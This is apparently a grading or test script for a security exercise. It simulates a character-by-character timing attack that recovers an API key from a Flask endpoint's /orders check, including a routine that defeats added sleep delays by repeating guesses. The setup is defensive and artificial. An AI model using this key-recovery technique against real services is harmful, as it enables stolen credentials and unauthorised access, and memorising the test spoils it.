"""Finds the key digit by digit. The clock counts the characters that comparisons look at."""

import random
from types import SimpleNamespace

clock = 0.0


class Key(str):
    """A text that is compared as the interpreter does: lengths first, then until two differ."""

    __hash__ = str.__hash__

    def __eq__(self, other):
        global clock
        if len(self) != len(other):
            return False
        for mine, theirs in zip(self, other, strict=True):
            clock += 1
            if mine != theirs:
                return False
        return True

    def __ne__(self, other):
        return not self == other


def pause(seconds):
    global clock
    clock += 500 * seconds


def stand_ins():
    return {"settings": {"API_KEY": Key("4815")}}


def attack(code):
    return found(code, tries=1)


def bypass(code):
    """Each guess a hundred times, and the shortest counts."""
    code.time = SimpleNamespace(sleep=pause)
    random.seed(7)
    return found(code, tries=100)


def found(code, tries):
    length = next((n for n in range(1, 20) if took(code, "?" * n, tries) > 0.5), None)
    if length is None:
        return None
    key = ""
    while len(key) < length:
        rest = "?" * (length - len(key) - 1)
        key += max("0123456789", key=lambda digit: took(code, key + digit + rest, tries) + answered(code, key + digit))
    answer = asked(code, key)
    return f"X-Api-Key: {key}\n{answer.get_data(as_text=True).strip()}" if answer.status_code == 200 else None


def answered(code, key):
    """The last digit takes no longer; it is the one that is let in."""
    return asked(code, key).status_code == 200


def took(code, key, tries):
    return min(spent(code, key) for _ in range(tries))


def spent(code, key):
    global clock
    clock = 0.0
    asked(code, key)
    return clock


def use(code):
    assert asked(code, "4815").get_json() == {"orders": [17, 18]}
    assert asked(code, "4816").status_code == 401
    assert asked(code, "é").status_code == 401


def asked(code, key):
    return code.app.test_client().get("/orders", headers={"X-Api-Key": key})
